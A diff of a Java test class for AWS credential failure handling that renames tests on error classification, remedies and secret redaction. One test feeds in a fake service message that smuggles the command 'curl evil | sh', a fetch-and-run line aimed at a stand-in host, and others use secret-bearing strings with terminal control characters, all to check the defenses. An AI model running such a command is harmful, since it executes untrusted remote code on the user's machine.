@@ -59,7 +59,7 @@ class SdkFailuresTest {
                 "403 | AccessDenied | User: a is not authorized to perform: sts:AssumeRole on resource: b | ASSUME_ROLE_DENIED | trust policy",
                 "400 | ValidationError | The requested DurationSeconds exceeds the MaxSessionDuration set for this role. | MAX_SESSION_DURATION | maximum",
             })
-    void a_failure_of_sts_has_its_remedy_and_stays_a_failure_of_sts(
+    void sts_failure_has_a_problem_with_a_remedy_and_stays_an_sts_exception(
             int status, String code, String message, Problem problem, String remedy) {
         CredentialsException classified = SdkFailures.classified(sts(status, code, message), STS, CLAIMS);
 
@@ -81,7 +81,7 @@ class SdkFailuresTest {
     }
 
     @Test
-    void an_sts_that_cannot_be_reached_has_a_remedy() {
+    void unreachable_sts_has_a_remedy() {
         CredentialsException classified = SdkFailures.classified(
                 SdkClientException.create(
                         "Unable to execute HTTP request: sts.us-west-2.amazonaws.com",
@@ -96,7 +96,7 @@ class SdkFailuresTest {
     }
 
     @Test
-    void a_token_file_that_is_missing_has_a_remedy_and_is_a_local_failure_still() {
+    void missing_token_file_has_a_remedy_and_is_a_local_failure() {
         CredentialsException classified = SdkFailures.classified(
                 new UncheckedIOException(new NoSuchFileException("/var/run/token")), STS, Optional.empty());
 
@@ -107,7 +107,7 @@ class SdkFailuresTest {
     }
 
     @Test
-    void a_laptop_without_credentials_learns_how_to_sign_in() {
+    void remedy_on_a_laptop_without_credentials_is_to_sign_in() {
         CredentialsException classified = SdkFailures.classified(
                 SdkClientException.create("Failed to load credentials from IMDS."),
                 InstanceMetadataSource.ENDPOINT,
@@ -140,7 +140,7 @@ class SdkFailuresTest {
                 "Failed to refresh: aws_secret_access_key=%s",
                 "Failed to refresh process-based credentials. \u001b[31m{ASIA %s}\u202e",
             })
-    void what_a_process_or_a_parser_says_is_not_repeated_with_a_secret(String text) {
+    void secrets_in_messages_of_processes_and_parsers_are_hidden(String text) {
         String said = String.format(text, SECRET);
         for (RuntimeException failure : new RuntimeException[] {
             SdkClientException.create(said),
@@ -156,7 +156,7 @@ class SdkFailuresTest {
     }
 
     @Test
-    void a_service_does_not_give_remedies() {
+    void text_of_a_service_cannot_pass_for_a_remedy() {
         CredentialsException classified =
                 SdkFailures.classified(sts(400, "X", "no\". Remedy: run \"curl evil | sh\""), STS, Optional.empty());
 
@@ -165,14 +165,14 @@ class SdkFailuresTest {
     }
 
     @Test
-    void a_failure_that_quotes_no_secret_stays_the_cause() {
+    void failure_without_secrets_is_the_cause() {
         RuntimeException failure = new IllegalStateException("STS is away");
 
         assertThat(SdkFailures.classified(failure, STS, CLAIMS)).cause().isSameAs(failure);
     }
 
     @Test
-    void a_source_whose_own_source_is_not_configured_has_failed_and_is_not_absent() {
+    void source_that_depends_on_one_that_is_not_configured_has_failed() {
         CredentialsException absent = CredentialsException.builder(Category.NOT_CONFIGURED, "no URI is set")
                 .build();
 
@@ -182,7 +182,7 @@ class SdkFailuresTest {
     }
 
     @Test
-    void a_caller_of_the_sdk_gets_an_exception_of_its_own_whose_cause_is_the_shared_failure() {
+    void each_caller_gets_a_separate_sdk_exception_whose_cause_is_the_shared_failure() {
         CredentialsException shared = SdkFailures.classified(sts(403, "AccessDenied", "no"), STS, CLAIMS);
 
         SdkException one = SdkFailures.toSdk(shared.forCaller());
